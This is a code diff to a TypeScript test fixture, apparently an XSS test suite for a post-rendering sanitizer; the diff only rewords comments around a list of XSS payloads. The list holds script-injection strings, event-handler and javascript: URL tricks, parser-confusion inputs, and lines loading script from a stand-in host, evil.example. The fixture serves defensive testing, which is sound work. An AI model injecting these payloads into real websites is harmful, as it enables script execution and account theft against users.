@@ -1,4 +1,4 @@
-/** Texts that tried to run script somewhere once; every surface that shows a post is fed all of them. */
+/** XSS payloads; every surface that shows a post is tested with all of them. */
 export const xssPayloads: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -97,7 +97,7 @@ export const xssPayloads: readonly string[] = [
   "${alert(1)}",
   "javascript:alert(1)",
   '{"__proto__":{"onclick":"alert(1)"}}',
-  // elements that load or run something by themselves
+  // elements that load or run something
   "<script>window.__xss=1</script>",
   "<script type=module>window.__xss=1</script>",
   "<script async src=//evil.example/a.js></script>",
@@ -147,7 +147,7 @@ export const xssPayloads: readonly string[] = [
   "<mark style='animation:x 1s' onanimationstart=window.__xss=1>x</mark>",
   "<style>@keyframes x{}</style><b style='animation-name:x' onanimationend=window.__xss=1>x</b>",
   "<code style='transition:all 1s' ontransitionend=window.__xss=1>x</code>",
-  // handlers on what is allowed
+  // event handlers on allowed elements
   "<b onfocus=window.__xss=1 tabindex=0 autofocus>x</b>",
   "<i contenteditable onbeforeinput=window.__xss=1 oninput=window.__xss=1>x</i>",
   "<u onpaste=window.__xss=1 oncopy=window.__xss=1 oncut=window.__xss=1>x</u>",
@@ -194,7 +194,7 @@ export const xssPayloads: readonly string[] = [
   "<area href=javascript:window.__xss=1 shape=default>",
   "<form id=x></form><button form=x formaction=javascript:window.__xss=1>x</button>",
   "<isindex action=javascript:window.__xss=1 type=submit>",
-  // parsers that disagree
+  // inputs that parsers disagree about
   "<p<script>window.__xss=1</script>",
   "<b\u0000><script>window.__xss=1</script>",
   "<</p>img src=x onerror=window.__xss=1>",
